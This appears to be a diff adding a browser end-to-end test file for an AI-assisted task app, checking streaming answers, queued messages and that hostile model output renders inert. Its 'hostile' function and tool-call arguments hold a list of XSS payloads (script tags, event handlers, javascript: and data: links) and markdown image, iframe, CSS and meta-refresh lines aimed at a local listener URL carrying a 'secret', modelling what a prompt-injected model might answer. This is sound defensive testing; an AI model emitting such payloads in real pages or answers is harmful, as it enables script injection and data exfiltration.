@@ -1,0 +1,157 @@
+"""What a model may do to a page: be slow, break off a view, be hostile. It says what is written here."""
+
+import asyncio
+import json
+from collections.abc import AsyncIterator, Awaitable, Callable
+from typing import Any
+from uuid import UUID
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import expect
+
+from agent.choice import ModelChoice
+from agent.models import Models
+from api import jobs
+from api.aurum import Aurum
+from tests.conftest import MakeAurum, Serving
+from tests.e2e.conftest import OpenWindow
+from tests.e2e.window import Window
+from tests.fakes import ScriptedModel, Step
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+Scripted = Callable[..., Awaitable[tuple[Window, Aurum]]]
+
+
+@pytest_asyncio.fixture
+async def scripted(window: OpenWindow, aurum_with: MakeAurum, serving: Serving, user: UUID) -> Scripted:
+    """Opens a window on an Aurum whose model follows a script."""
+
+    async def make(*script: Step) -> tuple[Window, Aurum]:
+        aurum = await aurum_with(Models(ModelChoice(), [], ScriptedModel(script=list(script))))
+        session = aurum.keeper.issue(user, "session")
+        return await window(await serving(aurum), session=session), aurum
+
+    return make
+
+
+async def test_words_are_seen_as_they_come_and_a_reload_loses_none(scripted: Scripted) -> None:
+    go, on = asyncio.Event(), asyncio.Event()
+    desk, _ = await scripted(("Half a", go, "sentence", on, "is whole now."))
+    await desk.say("Tell me")
+    await expect(desk.conversation.locator(".streaming")).to_have_text("Half a")
+    go.set()
+    await expect(desk.conversation.locator(".streaming")).to_have_text("Half a sentence")
+    await expect(desk.conversation).to_have_attribute("aria-busy", "true")
+
+    await desk.page.reload()
+    await expect(desk.conversation.locator(".said")).to_have_text("Tell me")
+    await expect(desk.conversation).to_contain_text("Thinking…")
+    on.set()
+    await desk.answered("Tell me")
+    await expect(desk.words).to_have_text("Half a sentence is whole now.")
+    await expect(desk.conversation.locator(".said")).to_have_count(1)
+
+
+async def test_a_card_runs_before_it_is_done_and_a_second_message_waits(scripted: Scripted) -> None:
+    go = asyncio.Event()
+    desk, _ = await scripted(
+        ([call("add_task", title="Pay the rent")],), ("Well,", go, "done."), "And this is the second answer."
+    )
+    await desk.say("Pay the rent")
+    await expect(desk.card("add_task")).to_have_attribute("data-state", "done")
+    await desk.say("And?")
+    await expect(desk.conversation.locator(".queued")).to_contain_text("And?")
+    go.set()
+    await desk.answered("And?")
+    await expect(desk.conversation.locator(".words")).to_have_text(
+        ["Well, done.", "And this is the second answer."]
+    )
+
+
+Listener = tuple[int, list[bytes]]
+
+
+@pytest_asyncio.fixture
+async def listener() -> AsyncIterator[Listener]:
+    """Somebody who waits on this machine to be told a secret: the port, and what was heard."""
+    heard: list[bytes] = []
+
+    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        heard.append(await reader.readline())
+        writer.close()
+
+    server = await asyncio.start_server(hear, "127.0.0.1", 0)
+    yield server.sockets[0].getsockname()[1], heard
+    server.close()
+    await server.wait_closed()
+
+
+async def test_hostile_words_run_nothing_and_fetch_nothing(scripted: Scripted, listener: Listener) -> None:
+    port, heard = listener
+    there = f"http://127.0.0.1:{port}/?d=secret"
+    image, tag = f"![x]({there})", "<img src=x onerror=alert(1)>"
+    desk, aurum = await scripted(
+        ([
+            call("add_pillar", 1, name="<script>alert(2)</script>"),
+            call("add_project", 2, name=f"<svg onload=alert(3)>{image}"),
+            call("add_task", 3, title=tag, due="tomorrow", notes=f"<iframe src={there}>"),
+            call("write_entry", 4, text=f"{image} {tag}", title="[a](javascript:alert(4))"),
+        ],),
+        hostile(there),
+    )  # fmt: skip
+    await desk.ask(f"{tag} {image}")
+    await jobs.sweep(aurum.database)
+    for again in (False, True):
+        if again:
+            await desk.page.reload()
+            await desk.answered(f"{tag} {image}")
+        await expect(desk.insight(f"{tag} comes first")).to_be_visible()
+        await expect(desk.row(tag).locator(".title")).to_have_text(tag)
+        await expect(desk.line("<script>")).to_be_visible()
+        await expect(desk.card("add_task")).to_contain_text(tag)
+        await expect(desk.words).to_contain_text("the end")
+        for button in await desk.conversation.get_by_role("button", name="Details").all():
+            await button.click()
+        assert await desk.page.evaluate(ALIVE) == []
+        links = await desk.conversation.locator("a").evaluate_all("all => all.map((each) => each.href)")
+        assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), links
+    await desk.today.get_by_role("button", name=f"Complete {tag}").click()
+    await expect(desk.toasts).to_contain_text(f"Done: {tag}")
+    assert await desk.page.evaluate(ALIVE) == []
+    assert heard == []
+
+
+ALIVE = """() => [...document.querySelectorAll("body *")].filter((element) =>
+  element.matches("img, iframe, script, style, form:not(.composer), object, embed, video, audio, base, meta, link, input")
+  || [...element.attributes].some(({ name }) => name.startsWith("on"))
+).map((element) => element.outerHTML)"""
+"""Elements of the page that could run or fetch something; its own pictures are drawn."""
+
+
+def hostile(there: str) -> str:
+    """What a model that was talked into something might answer."""
+    return "\n\n".join(
+        [
+            f"![x]({there})",
+            f"![y][ref]\n\n[ref]: {there}",
+            "[a](javascript:alert(1)) [b](&#106;avascript:alert(2)) [c](data:text/html,<script>alert(3)</script>)",
+            "[d](vbscript:x) [e](<java\tscript:alert(4)>) <javascript:alert(5)>",
+            "<img src=x onerror=alert(6)><script>alert(7)</script>",
+            f"<iframe src='{there}'></iframe><object data='{there}'></object><video src='{there}' autoplay></video>",
+            f"<style>@import url({there});body{{background:url({there})}}</style>",
+            f"<link rel=stylesheet href='{there}'><meta http-equiv=refresh content='0;url={there}'>",
+            f"<form action='{there}'><input autofocus onfocus=alert(8)></form>",
+            "<svg><animate onbegin=alert(9) attributeName=x dur=1s></svg><math><mtext><img onerror=alert(10) src>",
+            f"`<img src={there}>`\n\n```html\n<script src={there}></script>\n```",
+            f"| <img src={there}> | ![z]({there}) |\n|---|---|\n| <b onclick=alert(11)>x</b> | [f]({there}) |",
+            "- [x] <details open ontoggle=alert(12)>",
+            f"{there} the end",
+        ]
+    )
+
+
+def call(tool: str, number: int = 1, **arguments: Any) -> dict[str, Any]:
+    """A tool call as a model streams it."""
+    return {"id": f"call-{number}", "name": tool, "args": json.dumps(arguments)}
